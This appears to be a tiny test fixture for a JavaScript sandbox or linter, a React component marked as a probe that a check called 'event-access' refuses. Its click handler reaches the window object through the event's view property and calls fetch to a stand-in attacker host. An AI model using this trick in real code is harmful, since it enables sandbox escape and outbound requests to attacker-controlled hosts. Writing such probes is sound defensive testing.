// probe: window through an event; refused by: event-access
export default function Probe() {
  return <button onClick={({ view }) => view.fetch("https://attacker.test/destructured")}>Go</button>;
}
